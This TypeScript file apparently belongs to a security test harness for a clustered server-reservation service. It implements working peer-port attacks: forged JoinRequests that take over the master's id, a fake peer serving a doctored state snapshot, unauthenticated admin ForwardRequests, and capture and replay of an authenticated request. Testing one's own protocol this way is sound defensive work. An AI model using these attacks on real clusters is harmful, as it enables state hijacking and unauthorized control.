// Peer-port attacks: a forged state update (JoinRequest that moves the master's id to the attacker,
// whose fake peer answers FetchState with a doctored snapshot), ForwardRequests that do admin work,
// and the capture and replay of an authenticated ForwardRequest.
import { randomUUID } from 'node:crypto';
import { createServer, type Server, type Socket } from 'node:net';
import { FrameDecoder, FrameKind, encodeFrame } from '../../../node-core/src/transport/framing.js';
import { type Actor, type Outcome, PeerClient, type Target, decodeAny, encodeAs, envelope, ipOf, nodeInfo, outcome, sleep, sniffHeartbeat, udpSend, udpSocket } from './wire.js';

const FAKE_PEER_PORT = 9999;

function doctoredBoard(hosts: string[]): Record<string, unknown> {
  const now = Math.floor(Date.now() / 1000);
  const server = (host: string) => ({ host, app: '', ip: '', env: '', available: false, action: 'Reserved', since: now, comment: 'owned', holder: 'mallory', until: now + 86_400, maintenance: false, queue: [], holderNode: 'mallory' });
  return { version: 1, servers: ['mallory-box', ...hosts].map(server), history: [], users: [], clusterNodes: [], applied: [], lastUpdate: now };
}

/** A fake peer answering every FetchState with a StateUpdate at commit index 1,000,000 holding mallory's board. */
function fakePeer(t: Target, actor: Actor, masterId: string, term: number, incarnation: string, hosts: string[], counter: { fetches: number }, open: Set<Socket>): Promise<Server> {
  const voters = t.nodes.map((n) => ({ nodeId: n.id, ip: n.ip, peerPort: t.ports.peer, apiPort: t.ports.api, headless: true }));
  const srv = createServer((sock) => {
    open.add(sock);
    sock.on('close', () => open.delete(sock));
    sock.on('error', () => undefined);
    const dec = new FrameDecoder(2 * 1024 * 1024, {
      frame: (f) => {
        const req = decodeAny(t, f.payload);
        if (!req || req.type !== 'FetchState') return;
        counter.fetches++;
        const update = {
          ...envelope(t, masterId, term),
          type: 'StateUpdate',
          ok: true,
          leaderId: masterId,
          entries: [],
          commitIndex: 1_000_000,
          snapshot: { index: 1_000_000, term, config: { incarnation, voters }, board: doctoredBoard(hosts) },
        };
        sock.write(encodeFrame(f.id, FrameKind.Response, encodeAs(t, actor, update)));
      },
      error: () => sock.destroy(),
    });
    sock.on('data', (c) => dec.push(c));
  });
  return new Promise((res, rej) => {
    srv.once('error', rej);
    srv.listen(FAKE_PEER_PORT, t.attackerIp, () => res(srv));
  });
}

/** JoinRequests claiming the master's id at the attacker's address, while the fake peer serves the doctored snapshot. */
export async function forgedState(t: Target, p: { actor: Actor; durationMs: number; hosts: string[] }): Promise<Outcome> {
  const o = outcome();
  const seen = await sniffHeartbeat(t);
  if (!seen) {
    o.notes.push('no Heartbeat sniffed: cannot aim at the master');
    return o;
  }
  const masterId = seen.master.nodeId;
  const counter = { fetches: 0 };
  const open = new Set<Socket>();
  const srv = await fakePeer(t, p.actor, masterId, seen.term, seen.incarnation, p.hosts, counter, open);
  const s = await udpSocket();
  try {
    const followers = t.nodes.filter((n) => n.id !== masterId);
    const deadline = Date.now() + p.durationMs;
    while (Date.now() < deadline) {
      const msg = { ...envelope(t, masterId, seen.term), type: 'JoinRequest', node: nodeInfo(masterId, t.attackerIp, FAKE_PEER_PORT), lastIndex: seen.commitIndex, lastTerm: seen.term, fresh: false };
      for (const f of followers) {
        await udpSend(s, encodeAs(t, p.actor, msg), f.ip, t.ports.discovery);
        o.sent++;
      }
      await sleep(15);
    }
  } finally {
    s.close();
    const closed = new Promise<void>((r) => srv.close(() => r()));
    for (const sock of open) sock.destroy();
    await closed;
  }
  o.notes.push(`followers fetched from the fake peer ${counter.fetches} times`);
  if (counter.fetches > 0) o.breaches.push(`followers sent ${counter.fetches} FetchState to the attacker's fake peer (node id ${masterId} taken over)`);
  o.sent += counter.fetches;
  return o;
}

function forward(t: Target, actor: Actor, fromId: string, term: number, cmd: Record<string, unknown>, reqId = randomUUID()): Buffer {
  return encodeAs(t, actor, { ...envelope(t, fromId, term), type: 'ForwardRequest', cmd, meta: { user: 'mallory', nodeId: fromId, nodeIP: t.attackerIp, reqId } });
}

function describe(t: Target, raw: Buffer | null): { ok: boolean; text: string } {
  if (!raw) return { ok: false, text: 'no answer' };
  const m = decodeAny(t, raw) ?? (() => {
    try {
      return JSON.parse(raw.toString('utf8')) as Record<string, unknown>;
    } catch {
      return null;
    }
  })();
  if (!m) return { ok: false, text: 'undecodable answer' };
  if (m.type === 'ForwardResponse') {
    const r = m.result as { ok: boolean; error?: { code: string } };
    return { ok: r.ok, text: r.ok ? 'ForwardResponse ok' : `ForwardResponse ${r.error?.code}` };
  }
  return { ok: false, text: `${String(m.type)} ${String(m.code ?? '')}` };
}

/** ForwardRequests to the master's peer port: force-release, maintenance, server-add, servers-import replace:true. */
export async function peerAdmin(t: Target, p: { actor: Actor; rounds: number; victims: string[] }): Promise<Outcome> {
  const o = outcome();
  const seen = await sniffHeartbeat(t);
  const masterId = seen?.master.nodeId ?? t.nodes[0]!.id;
  const from = t.nodes.find((n) => n.id !== masterId)!.id;
  const cmds: Array<Record<string, unknown>> = [
    ...p.victims.map((host) => ({ type: 'release', host, user: 'mallory', force: true })),
    { type: 'maintenance', host: p.victims[1] ?? p.victims[0], on: true },
    { type: 'server-add', server: { host: 'mallory-box' } },
    { type: 'servers-import', servers: [{ host: 'mallory-box' }], replace: true },
  ];
  let client = await PeerClient.open(ipOf(t, masterId)!, t.ports.peer);
  const answers = new Map<string, number>();
  try {
    for (let r = 0; r < p.rounds; r++) {
      for (const cmd of cmds) {
        // a node drops the connection of a peer whose frames it refuses: come back on a new one
        if (client.closed) client = await PeerClient.open(ipOf(t, masterId)!, t.ports.peer);
        const res = describe(t, await client.request(forward(t, p.actor, from, seen?.term ?? 0, cmd)));
        o.sent++;
        answers.set(res.text, (answers.get(res.text) ?? 0) + 1);
        const what = `${String(cmd.type)}${cmd.replace ? ' replace:true' : ''}`;
        if (res.ok && !o.breaches.some((b) => b.startsWith(`${what} `))) o.breaches.push(`${what} over the peer port without the admin token: committed`);
      }
    }
  } finally {
    client.close();
  }
  o.notes.push(`answers ${[...answers].map(([k, n]) => `${k} x${n}`).join(', ')}`);
  return o;
}

/** Builds an authenticated ForwardRequest (a member's real write), sends it once and returns its bytes. */
export async function forwardCapture(t: Target, p: { masterId: string; fromId: string; term: number; host: string; user: string }): Promise<Outcome> {
  const o = outcome();
  const cmd = { type: 'reserve', host: p.host, user: p.user, until: Math.floor(Date.now() / 1000) + 3600 };
  const bytes = encodeAs(t, 'member', { ...envelope(t, p.fromId, p.term), type: 'ForwardRequest', cmd, meta: { user: p.user, nodeId: p.fromId, nodeIP: ipOf(t, p.fromId)!, reqId: randomUUID() } });
  const client = await PeerClient.open(ipOf(t, p.masterId)!, t.ports.peer);
  try {
    const res = describe(t, await client.request(bytes));
    o.sent++;
    o.notes.push(`original ForwardRequest: ${res.text}`);
    o.data = { hex: bytes.toString('hex'), ok: res.ok };
  } finally {
    client.close();
  }
  return o;
}

/** Sends captured ForwardRequest bytes again to the given node's peer port. */
export async function forwardReplay(t: Target, p: { hex: string; toId: string; times: number }): Promise<Outcome> {
  const o = outcome();
  const client = await PeerClient.open(ipOf(t, p.toId)!, t.ports.peer);
  try {
    for (let i = 0; i < p.times; i++) {
      const res = describe(t, await client.request(Buffer.from(p.hex, 'hex')));
      o.sent++;
      if (i === 0) o.notes.push(`replayed ForwardRequest: ${res.text}`);
    }
  } finally {
    client.close();
  }
  return o;
}
